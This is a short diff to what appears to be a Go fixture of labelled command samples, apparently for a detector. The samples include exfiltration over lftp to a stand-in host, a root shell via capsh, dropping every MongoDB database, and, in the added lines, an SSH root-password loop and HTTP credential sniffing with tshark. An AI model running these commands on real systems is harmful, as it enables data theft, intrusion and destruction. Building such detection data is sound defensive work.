@@ -290,6 +290,8 @@ file_sent_out|/usr/bin/php -S 0.0.0.0:8000 -t /etc
 file_sent_out|/usr/bin/lftp -c "open -u x,y 198.51.100.7; put /tmp/l.tgz"
 shell_by_helper|/sbin/capsh --gid=0 --uid=0 --
 data_destroyed|/usr/bin/mongosh --eval "db.getMongo().getDBNames().forEach(n=>db.getSiblingDB(n).dropDatabase())"
+passwords_tried_by_loop|/bin/sh -c "for h in $(cat /tmp/hosts); do sshpass -p root ssh root@$h id; done"
+passwords_sniffed|/usr/bin/tshark -i eth0 -Y http.authorization -T fields -e http.authorization
 `
 
 func process(line string) []byte {
